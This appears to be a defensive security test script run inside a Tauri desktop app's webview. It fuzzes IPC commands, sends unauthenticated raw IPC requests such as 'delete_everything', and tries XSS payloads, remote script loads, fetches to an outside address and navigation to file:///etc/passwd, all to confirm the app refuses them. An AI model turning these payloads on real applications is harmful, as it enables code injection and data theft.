// A hostile script in the page. Called with what to try and with what; ends with a list of [what, with what, outcome].
const [kind, given, address] = arguments;
const done = arguments[arguments.length - 1];
const { invoke } = window.__TAURI_INTERNALS__;

const later = (ms) => new Promise((go) => setTimeout(go, ms));
const words = (error) => {
  if (error instanceof Error) return `${error.name}: ${error.message}`;
  return typeof error === 'string' ? error : JSON.stringify(error);
};
const outcome = (act) =>
  Promise.race([
    (async () => act())().then(
      () => 'done',
      (error) => `refused ${words(error)}`,
    ),
    later(5000).then(() => 'done: no answer'),
  ]);

const circle = { text: 'x' };
const GARBAGE = [
  ['null', null],
  ['true', true],
  ['-1', -1],
  ['1e308', 1e308],
  ['2^64', 2 ** 64],
  ['""', ''],
  ['"text"', 'javascript:alert(1)\u0000\u202e%s'],
  ['"long"', 'x'.repeat(200_000)],
  ['[]', []],
  ['[null]', [null]],
  ['{}', {}],
  ['{__proto__}', JSON.parse('{"__proto__":{"profileId":"0"},"constructor":{"prototype":{}}}')],
  ['channel', '__CHANNEL__:1'],
  ['deep', [...Array(300)].reduce((inner) => [inner], circle)],
];

async function garbage() {
  const tried = [];
  for (const [name, names] of given) {
    for (const [label, value] of GARBAGE) {
      const request = Object.fromEntries(names.map((one) => [one, value]));
      tried.push([name, label, await outcome(() => invoke(name, request))]);
    }
    for (const [label, payload] of [
      ['nothing', undefined],
      ['other names', { a: 1 }],
      ['bytes', new Uint8Array([0, 255, 123, 34])],
      ['no bytes', new Uint8Array()],
      ['a list', ['x']],
    ]) {
      tried.push([name, label, await outcome(() => invoke(name, payload))]);
    }
  }
  return tried;
}

async function refused() {
  return Promise.all(
    given.map(async (name) => [
      name,
      '',
      await outcome(() => invoke(name, { rid: 0, label: 'main', key: 'k', path: '/etc/passwd', url: 'file:///etc/passwd' })),
    ]),
  );
}

// Beside `invoke`: the ways that lie under it, without the key that proves who calls.
async function raw() {
  const tries = [];
  const at = (what, act) => tries.push(outcome(act).then((came) => [what, '', came]));
  const posts = [window.ipc, window.webkit?.messageHandlers?.ipc].filter(Boolean);
  const messages = [
    '', ' ', '{}', '[]', 'null', '"', '\u0000', 'x'.repeat(1_000_000),
    '{"cmd":"delete_everything"}',
    '{"cmd":"delete_everything","callback":1,"error":2,"payload":{},"options":{}}',
    '{"cmd":"delete_everything","callback":1,"error":2,"payload":{},"options":{},"__TAURI_INVOKE_KEY__":"x"}',
    '{"cmd":"","callback":-1,"error":1e99,"payload":null,"options":null,"__TAURI_INVOKE_KEY__":null}',
  ];
  for (const post of posts) {
    for (const message of [...messages, 0, null, undefined, {}, new Uint8Array(4)]) {
      try {
        post.postMessage(message);
      } catch {
        // Refused before it left.
      }
    }
  }
  await later(300);
  const ask = async (path, init) => {
    // To one that has no key to show, Tauri gives no answer at all.
    const silence = later(1000).then(() => Promise.reject(new Error('silence')));
    const answer = await Promise.race([fetch(`ipc://localhost/${path}`, init), silence]);
    if (!answer.ok || answer.headers.get('Tauri-Response') === 'error') throw new Error(`${answer.status}`);
  };
  for (const path of ['get_desk', 'delete_everything', '', '%00', '..%2f..', 'x'.repeat(10_000)]) {
    for (const headers of [
      {},
      { 'Tauri-Invoke-Key': 'x' },
      { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': '' },
      { 'Tauri-Callback': 'x', 'Tauri-Error': '99999999999', 'Tauri-Invoke-Key': 'x', 'Content-Type': 'text/html' },
    ]) {
      for (const method of ['POST', 'GET', 'PUT']) {
        at(`${method} ${path.slice(0, 20)} ${JSON.stringify(headers)}`, () => ask(path, { method, headers }));
      }
    }
  }
  for (let id = 0; id < 20; id += 1) {
    const headers = { 'Tauri-Channel-Id': `${id}` };
    at(`channel ${id}`, () => invoke('plugin:__TAURI_CHANNEL__|fetch', null, { headers }));
    at(`resource ${id}`, () => invoke('plugin:resources|close', { rid: id }));
  }
  return Promise.all(tries);
}

// What the content policy forbids: code that is not the bundle's, and every address that is not the app's.
async function load() {
  const tried = [];
  let ran = [];
  window.hostile = (which) => ran.push(which);
  const runs = async (what, act) => {
    ran = [];
    try {
      await Promise.race([act(), later(500)]);
    } catch {
      // Forbidden.
    }
    await later(30);
    tried.push([what, '', ran.length > 0 ? 'done' : 'refused']);
  };
  const put = (html) => {
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
    return later(50).then(() => box.remove());
  };
  const element = (name, members, text = '') => {
    const made = Object.assign(document.createElement(name), members);
    made.textContent = text;
    document.head.append(made);
    return later(100).then(() => made.remove());
  };
  const code = "hostile('x')";
  const blob = (type) => URL.createObjectURL(new Blob([code], { type }));
  await runs('eval', () => (0, eval)(code));
  await runs('Function', () => new Function(code)());
  await runs('setTimeout', () => setTimeout(code, 0));
  await runs('a script element', () => element('script', {}, code));
  await runs('a data script', () => element('script', { src: `data:text/javascript,${code}` }));
  await runs('a blob script', () => element('script', { src: blob('text/javascript') }));
  await runs('a remote script', () => element('script', { src: `http://${given}/x.js` }));
  await runs('import data', () => import(`data:text/javascript,${code}`));
  await runs('import blob', () => import(blob('text/javascript')));
  await runs('import remote', () => import(`http://${given}/x.js`));
  await runs('a worker', () => (new Worker(blob('text/javascript')).onmessage = () => window.hostile('w')));
  await runs('a service worker', () => navigator.serviceWorker.register('/x.js').then(() => window.hostile('s')));
  await runs('wasm', () =>
    WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => window.hostile('wasm')));
  for (const html of [
    '<img src=x onerror="hostile(1)">',
    '<svg onload="hostile(1)"><animate onbegin="hostile(1)" attributeName=x dur=1s></svg>',
    '<iframe srcdoc="<script>parent.hostile(1)</scr' + 'ipt>"></iframe>',
    `<iframe src="http://${given}/"></iframe>`,
    '<iframe src="data:text/html,<script>parent.hostile(1)</scr' + 'ipt>"></iframe>',
    `<object data="http://${given}/"></object><embed src="http://${given}/">`,
    `<img src="http://${given}/a"><video src="http://${given}/b"></video><audio src="http://${given}/c"></audio>`,
    `<link rel=stylesheet href="http://${given}/d"><link rel=prefetch href="http://${given}/e">`,
    `<style>@import "http://${given}/f"; body { background: url(http://${given}/g) }</style>`,
    `<p style="background: url(http://${given}/h)">x</p><base href="http://${given}/">`,
    `<meta http-equiv="refresh" content="0;url=http://${given}/i">`,
  ]) {
    await runs(html, () => put(html));
  }
  const calls = async (what, act) => tried.push([what, '', await outcome(act)]);
  await calls('fetch', () => fetch(`http://${given}/`, { mode: 'no-cors' }));
  await calls('a request', () => new Promise((go, no) => {
    const request = new XMLHttpRequest();
    request.onload = go;
    request.onerror = () => no(new Error('no'));
    request.open('GET', `http://${given}/`);
    request.send();
  }));
  await calls('a socket', () => new Promise((go, no) => {
    const socket = new WebSocket(`ws://${given}/`);
    socket.onopen = go;
    socket.onerror = () => no(new Error('no'));
  }));
  await calls('events', () => new Promise((go, no) => {
    const source = new EventSource(`http://${given}/`);
    source.onopen = go;
    source.onerror = () => no(new Error('no'));
  }));
  navigator.sendBeacon?.(`http://${given}/`, 'x');
  await later(300);
  return tried;
}

// A frame of the page's own making has a window of its own, which Tauri's script may have got into.
async function frames() {
  const tried = [];
  for (const source of [undefined, 'about:blank', location.href, '/key.html', `http://${given}/`]) {
    const frame = document.createElement('iframe');
    if (source !== undefined) frame.src = source;
    document.body.append(frame);
    await later(300);
    const inside = frame.contentWindow;
    const reach = async (what, act) => tried.push([`${source} ${what}`, '', await outcome(act)]);
    await reach('invoke', () => inside.__TAURI_INTERNALS__.invoke('get_desk'));
    await reach('fetch', async () => {
      const answer = await inside.fetch('ipc://localhost/get_desk', { method: 'POST' });
      if (!answer.ok) throw new Error(`${answer.status}`);
    });
    frame.remove();
  }
  return tried;
}

// Ways to lead the window, or another one, to somebody else's page.
const link = (href, members = {}) => {
  const made = Object.assign(document.createElement('a'), { href, ...members });
  document.body.append(made);
  made.click();
  made.remove();
};
const page = '<script>document.title="owned"</scr' + 'ipt>';
const WAYS = {
  'location': (to) => (location.href = `http://${to}/`),
  'replace': (to) => location.replace(`http://${to}/`),
  'another host of the scheme': () => (location.href = 'tauri://example.com/'),
  'a host that looks like ours': () => (location.href = 'http://tauri.localhost/'),
  'data': () => (location.href = `data:text/html,${page}`),
  'blob': () => (location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))),
  'javascript': () => (location.href = 'javascript:"owned"'),
  'file': () => (location.href = 'file:///etc/passwd'),
  'about': () => (location.href = 'about:blank'),
  'the commands themselves': () => (location.href = 'ipc://localhost/get_desk'),
  'mailto': () => (location.href = 'mailto:jane@example.com?bcc=all@example.com'),
  'open': (to) => window.open(`http://${to}/`),
  'open ours': () => window.open('/key.html'),
  'open blank': () => window.open('about:blank')?.document.write(page),
  'a link': (to) => link(`http://${to}/`),
  'a link to a new window': (to) => link(`http://${to}/`, { target: '_blank' }),
  'a link to the top': (to) => link(`http://${to}/`, { target: '_top' }),
  'a download': () => link(URL.createObjectURL(new Blob(['x'])), { download: 'owned.sh' }),
  'a form': (to) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${to}/`, method: 'post' });
    document.body.append(form);
    form.submit();
    form.remove();
  },
  'a refresh': (to) => {
    const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=http://${to}/` });
    document.head.append(meta);
  },
};

const TRIES = { garbage, refused, raw, load, frames, ways: async () => Object.keys(WAYS) };
if (kind === 'go') WAYS[given](address);
else TRIES[kind]().then(done, (error) => done([['', '', `done: the attack itself failed, ${words(error)}`]]));
